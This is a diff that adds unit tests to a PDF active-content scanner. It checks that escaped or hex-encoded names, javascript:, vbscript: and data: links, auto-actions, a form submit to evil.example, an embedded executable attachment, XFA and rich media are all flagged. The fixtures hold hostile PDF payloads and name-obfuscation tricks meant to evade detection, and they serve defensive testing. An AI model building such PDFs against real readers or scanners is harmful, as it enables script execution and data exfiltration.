@@ -162,6 +162,33 @@ describe('findActiveContent: actions chained through /Next after an opening GoTo
   });
 });
 
+describe('findActiveContent: more names readers act on, however written', () => {
+  const link = (action: string) => ({ pageExtra: '/Annots [5 0 R]', more: [{ num: 5, body: `<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>` }, { num: 6, body: '(javascript:app.alert(1))' }] });
+  it.each([
+    ['a link to javascript:', link('<< /S /URI /URI (javascript:app.alert(1)) >>'), ['/URI']],
+    ['a link to JavaScript: in a hex string, escaped key', link('<< /S /URI /#55RI <4A6176615363726970743A616C657274283129> >>'), ['/URI']],
+    ['a link to java\\tscript: with spaces before it', link('<< /S /URI /URI (  java\\tscript:alert(1)) >>'), ['/URI']],
+    ['a link to a javascript: string by reference', link('<< /S /URI /URI 6 0 R >>'), ['/URI']],
+    ['a link to vbscript:', link('<< /S /URI /URI (vbscript:msgbox) >>'), ['/URI']],
+    ['a link to a data: address', link('<< /S /URI /URI (data:text/html,<script>alert(1)</script>) >>'), ['/URI']],
+    ['an annotation’s own /AA', { pageExtra: '/Annots [5 0 R]', more: [{ num: 5, body: '<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] /AA << /E << /S /Named /N /Print >> >> >>' }] }, ['/AA']],
+    ['a form field’s /AA, escaped', { catalogExtra: '/AcroForm << /Fields [5 0 R] >>', more: [{ num: 5, body: '<< /FT /Tx /T (a) /#41A << /K << /S /GoTo /D [3 0 R /Fit] >> >> >>' }] }, ['/AA']],
+    ['an import of data, escaped', { more: [{ num: 5, body: '<< /S /Imp#6FrtData /F (x.fdf) >>' }] }, ['/ImportData']],
+    ['a submit, hex-escaped throughout', { more: [{ num: 5, body: '<< /S /#53#75#62#6D#69#74#46#6F#72#6D /F (https://evil.example/) >>' }] }, ['/SubmitForm']],
+    ['an attachment annotation', { pageExtra: '/Annots [5 0 R]', more: [{ num: 5, body: '<< /Type /Annot /Subtype /FileAttach#6Dent /FS 6 0 R >>' }, { num: 6, body: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>' }, { num: 7, body: stream('/Type /Embedded#46ile', 'MZ') }] }, ['/EmbeddedFile', '/FileAttachment']],
+    ['XFA, escaped', { catalogExtra: '/AcroForm << /#58FA 5 0 R >>', more: [{ num: 5, body: stream('', '<xdp:xdp/>') }] }, ['/XFA']],
+    ['rich media, escaped', { pageExtra: '/Annots [5 0 R]', more: [{ num: 5, body: '<< /Type /Annot /Subtype /Rich#4Dedia >>' }] }, ['/RichMedia']],
+  ])('%s', async (_label, options, names) => {
+    expect(found(await findActiveContent(simplePdf(options)))).toEqual(names);
+  });
+
+  it('ordinary links, and names that are also JavaScript object keys, pass', async () => {
+    expect(found(await findActiveContent(simplePdf(link('<< /S /URI /URI (https://rst.hunan.gov.cn/javascript:x) >>'))))).toEqual([]);
+    expect(found(await findActiveContent(simplePdf(link('<< /S /URI /URI (mailto:hr@example.gov.cn) >>'))))).toEqual([]);
+    expect(found(await findActiveContent(simplePdf({ catalogExtra: '/constructor /toString /__proto__ /hasOwnProperty 1' })))).toEqual([]);
+  });
+});
+
 describe('findActiveContent: stream keyword variants and object streams a walk could miss', () => {
   const script = [{ num: 7, body: '<< /S /JavaScript /JS (app.alert(1)) >>' }];
   const withObjStm = (objstm: Uint8Array, before: PdfObject[] = []) =>
